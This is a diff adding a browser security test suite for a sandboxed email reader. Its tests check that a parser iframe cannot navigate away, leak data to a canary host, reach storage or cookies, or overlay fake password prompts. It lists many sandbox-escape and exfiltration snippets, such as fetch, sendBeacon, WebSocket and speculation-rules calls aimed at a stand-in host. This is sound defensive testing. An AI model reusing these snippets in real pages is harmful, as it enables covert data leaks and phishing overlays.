@@ -1,0 +1,272 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { noBrowser } from '../../browser.ts';
+import { type Canary, openCanary } from './canary.ts';
+import { toHtmlMail } from './made-mail.ts';
+import { listViewers, openMail } from './opened-pages.ts';
+import { openReadingPage, openWatchedBrowser, type ReadingSite, serveReading } from './reading-page.ts';
+
+/** What a frame does, and what is given to it before it is judged to have done nothing. */
+const DEED_MS = 1000;
+
+let browser: Browser;
+let canary: Canary;
+let site: ReadingSite;
+beforeAll(async () => {
+  if (noBrowser !== null) return;
+  [canary, site] = await Promise.all([openCanary(), serveReading()]);
+  browser = await openWatchedBrowser(canary.port);
+}, 120_000);
+afterAll(async () => {
+  await browser?.close();
+  await Promise.all([canary?.close(), site?.close()]);
+});
+beforeEach((context) => {
+  if (noBrowser !== null) context.skip(noBrowser);
+  canary.knocks.length = 0;
+});
+
+const away = 'http://away.canary.test/away';
+
+/** What hostile code would do if it ever ran in the parser frame: the frame has scripts, so that only its cage holds it. */
+const deeds: readonly (readonly [name: string, script: string])[] = [
+  ['goes elsewhere itself', `location = '${away}'`],
+  [
+    'goes elsewhere by a link',
+    `const a = document.createElement('a'); a.href = '${away}'; document.body.append(a); a.click()`,
+  ],
+  [
+    'goes elsewhere by a form',
+    `const f = document.createElement('form'); f.action = '${away}'; document.body.append(f); f.submit()`,
+  ],
+  [
+    'goes elsewhere by refresh',
+    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${away}'; document.head.append(m)`,
+  ],
+  ['takes the page elsewhere', `try { top.location = '${away}' } catch {}`],
+  [
+    'takes the page elsewhere by a link',
+    `const a = document.createElement('a'); a.href = '${away}'; a.target = '_top'; document.body.append(a); a.click()`,
+  ],
+  ['opens a window', `window.open('${away}')`],
+  ['fetches', `fetch('${away}', { mode: 'no-cors' }).catch(() => 0)`],
+  ['sends a beacon', `navigator.sendBeacon('${away}', 'x')`],
+  ['opens a socket', `try { new WebSocket('${away}'.replace('http', 'ws')) } catch {}`],
+  ['opens a stream', `try { new EventSource('${away}') } catch {}`],
+  ['shows a picture', `new Image().src = '${away}'`],
+  ['makes a frame', `const f = document.createElement('iframe'); f.src = '${away}'; document.body.append(f)`],
+  [
+    'loads a style',
+    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${away}'; document.head.append(l)`,
+  ],
+  ['loads a font', `new FontFace('a', 'url(${away})').load().catch(() => 0)`],
+  [
+    'loads a script',
+    `const s = document.createElement('script'); try { s.src = '${away}' } catch {} document.head.append(s)`,
+  ],
+  [
+    'starts a worker',
+    `try { new Worker(URL.createObjectURL(new Blob(["fetch('${away}',{mode:'no-cors'})"]))) } catch {}`,
+  ],
+  [
+    'prefetches',
+    `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${away}'; document.head.append(l)`,
+  ],
+  ['plays', `new Audio('${away}').play().catch(() => 0)`],
+  [
+    'speculates',
+    `const s = document.createElement('script'); s.type = 'speculationrules'; try { s.textContent = '{"prefetch":[{"urls":["${away}"],"eagerness":"immediate"}]}' } catch {} document.head.append(s)`,
+  ],
+];
+
+/** Runs it in the parser frame, past its policy, as whoever found a hole in the parser would. */
+async function doInParser(page: Page, script: string): Promise<void> {
+  const frame = page.frames().find((each) => each.url().endsWith('/parser.html'));
+  await frame?.evaluate(script).catch(() => undefined);
+  await page.waitForTimeout(DEED_MS);
+}
+
+test('control: the same deeds in a plain frame are heard', { timeout: 120_000 }, async () => {
+  const silent: string[] = [];
+  // A browser of its own: what it keeps open would be heard later.
+  const plain = await openWatchedBrowser(canary.port);
+  for (const [name, script] of deeds) {
+    canary.knocks.length = 0;
+    const { page } = await openReadingPage(plain, site, '/plain');
+    await page.evaluate(() => {
+      const frame = document.createElement('iframe');
+      frame.src = '/plain';
+      document.body.append(frame);
+    });
+    await page.waitForTimeout(100);
+    await page
+      .frames()[1]
+      ?.evaluate(script)
+      .catch(() => undefined);
+    await page.waitForTimeout(DEED_MS / 2);
+    if (canary.knocks.length === 0) silent.push(name);
+    await page.close();
+  }
+  await plain.close();
+  await new Promise((settle) => setTimeout(settle, DEED_MS));
+  // A window needs a person's press, and rules of speculation a page that nothing frames.
+  expect(silent.filter((name) => !/window|speculates|of a link/.test(name))).toEqual([]);
+});
+
+test.each(deeds)(
+  'a parser frame that %s is not heard, and the page stays',
+  { timeout: 60_000 },
+  async (_name, script) => {
+    const { page, foreign } = await openReadingPage(browser, site);
+    await openMail(page, toHtmlMail('<p>hello'));
+    await doInParser(page, script);
+    expect(canary.knocks).toEqual([]);
+    expect(foreign.filter((url) => url === away)).toEqual([]);
+    expect(page.url()).toBe(`${site.address}/`);
+    expect(page.context().pages()).toHaveLength(1);
+    expect(await openMail(page, toHtmlMail('<p>again'))).toHaveProperty('head');
+    await page.close();
+  },
+);
+
+test('a parser frame reaches nothing of the page, its storage or its files', async () => {
+  const { page } = await openReadingPage(browser, site);
+  await openMail(page, toHtmlMail('<p>hello'));
+  const frame = page.frames().find((each) => each.url().endsWith('/parser.html'));
+  const reached = await frame?.evaluate(async () => {
+    const tries: readonly (readonly [string, () => unknown])[] = [
+      ['page', () => parent.document.body],
+      ['storage', () => localStorage.length],
+      ['session', () => sessionStorage.length],
+      ['cookies', () => document.cookie],
+      ['database', () => indexedDB.open('x')],
+      ['caches', () => caches.keys()],
+      ['files', () => fetch('/page/page.js').then(({ ok }) => ok)],
+      ['workers', () => navigator.serviceWorker.getRegistrations()],
+    ];
+    const found: string[] = [];
+    for (const [name, attempt] of tries) {
+      try {
+        const value = await attempt();
+        if (name !== 'cookies' || value !== '') found.push(name);
+      } catch {
+        // As it should be.
+      }
+    }
+    return found;
+  });
+  expect(reached).toEqual([]);
+  await page.close();
+});
+
+test('a frame that hangs leaves the page alive and is thrown away; other messages open meanwhile', {
+  timeout: 90_000,
+}, async () => {
+  const { page } = await openReadingPage(browser, site);
+  await openMail(page, toHtmlMail('<p>hello'));
+  const hanging = page.frames().find((each) => each.url().endsWith('/parser.html'));
+  void hanging
+    ?.evaluate(() => {
+      const end = Date.now() + 60_000;
+      while (Date.now() < end);
+    })
+    .catch(() => undefined);
+  await page.waitForTimeout(200);
+  const flaw = await page.evaluate(async () => {
+    const { reading } = globalThis as unknown as { reading: { frames(): { show(masks: string[]): Promise<void> }[] } };
+    const start = performance.now();
+    const word = await reading
+      .frames()[0]
+      ?.show([])
+      .then(
+        () => 'shown',
+        (cause: Error) => cause.message,
+      );
+    return [word, Math.round((performance.now() - start) / 1000)];
+  });
+  expect(flaw).toEqual(['hung', 20]);
+  expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
+  expect(await openMail(page, toHtmlMail('<p>after'))).toHaveProperty('head');
+  await page.close();
+});
+
+test('a frame that says anything unexpected is thrown away', async () => {
+  for (const script of [
+    "parent.postMessage('odd', '*')",
+    "parent.postMessage({ kind: 'read' }, '*')",
+    "parent.postMessage('candor-frame-ready', '*')",
+  ]) {
+    const { page } = await openReadingPage(browser, site);
+    await openMail(page, toHtmlMail('<p>hello'));
+    await doInParser(page, script);
+    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
+    await page.close();
+  }
+});
+
+test('what other windows say is not heard', async () => {
+  const { page } = await openReadingPage(browser, site);
+  await openMail(page, toHtmlMail('<p>hello'));
+  await page.evaluate(() => postMessage({ kind: 'read' }, '*'));
+  await page.waitForTimeout(100);
+  expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(1);
+  await page.close();
+});
+
+test('a message is given to a frame once: what another page or a second order says is not taken', async () => {
+  const { page } = await openReadingPage(browser, site);
+  await openMail(page, toHtmlMail('<p>hello'));
+  const heard = await page.evaluate(async () => {
+    const frame = document.querySelector('iframe');
+    const channel = new MessageChannel();
+    const answer = new Promise((settle) => {
+      channel.port1.onmessage = () => settle('answered');
+      setTimeout(() => settle('silent'), 500);
+    });
+    const bytes = new TextEncoder().encode('Subject: second\r\n\r\nx').buffer;
+    frame?.contentWindow?.postMessage({ kind: 'open', bytes }, '*', [channel.port2, bytes]);
+    return answer;
+  });
+  expect(heard).toBe('silent');
+  await page.close();
+});
+
+test('a click on a link in a message does nothing, wherever it leads', async () => {
+  const { page } = await openReadingPage(browser, site);
+  const links = ['_blank', '_top', '_parent', '_self']
+    .map((target) => `<a target=${target} href=${away}>press</a>`)
+    .join(' ');
+  await openMail(
+    page,
+    toHtmlMail(`<base target=_top>${links}<p style="position:fixed;inset:0;z-index:9"><a href=${away}>over</a></p>`),
+  );
+  const [viewer] = listViewers(page);
+  for (const link of (await viewer?.$$('.candor-link')) ?? []) await link.click();
+  await page.waitForTimeout(DEED_MS);
+  expect(await viewer?.$$eval('.candor-link', (found) => found.length)).toBe(5);
+  expect(canary.knocks).toEqual([]);
+  expect(page.url()).toBe(`${site.address}/`);
+  expect(page.context().pages()).toHaveLength(1);
+  await page.close();
+});
+
+test('nothing in a message lies over anything: what was fixed stands in the flow, inside its frame', async () => {
+  const { page } = await openReadingPage(browser, site);
+  await openMail(
+    page,
+    toHtmlMail(
+      '<style>div{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99}</style><div style="position:absolute;inset:-900px">Enter your password</div><p style="margin-top:-900px;transform:translateY(-900px)">x',
+    ),
+  );
+  const [viewer] = listViewers(page);
+  expect(
+    await viewer?.$$eval(
+      'body *',
+      (found) =>
+        found
+          .map((element) => getComputedStyle(element))
+          .filter(({ position, transform }) => position !== 'static' || transform !== 'none').length,
+    ),
+  ).toBe(0);
+  await page.close();
+});
